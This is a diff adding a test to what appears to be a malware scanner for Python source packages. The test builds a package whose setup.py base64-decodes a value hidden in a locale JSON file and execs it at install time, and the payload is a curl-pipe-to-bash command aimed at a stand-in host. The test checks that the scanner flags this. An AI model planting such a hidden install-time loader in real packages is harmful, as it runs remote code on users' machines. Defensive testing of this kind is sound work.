@@ -59,3 +59,27 @@ test('look-alike: a version that is read line by line, and a description from th
 
   expect((await analysePacked(file)).score).toBeLessThan(5);
 });
+
+test('a table beside the code is read by its keys: what one of them holds, decoded and run', async () => {
+  const code = Buffer.from("import os\nos.system('curl -s https://files.drop.invalid/x.sh | bash')\n").toString(
+    'base64',
+  );
+  const file = (use: string): ReturnType<typeof sdist> =>
+    sdist({
+      'setup.py': python(
+        'import base64, json',
+        "with open('locale.json') as f:",
+        '    words = json.load(f)',
+        use,
+        ...SETUP,
+      ),
+      'locale.json': JSON.stringify({ en: { hello: 'Hello', boot: code } }),
+    });
+
+  expect(await inspect('shell-payload', file("exec(base64.b64decode(words['en']['boot']))"))).toMatchObject([
+    { class: 'malware', context: 'install', line: 4 },
+  ]);
+  expect(
+    (await analysePacked(file("print(words['en']['hello'])"))).findings.filter((f) => f.class === 'malware'),
+  ).toEqual([]);
+});
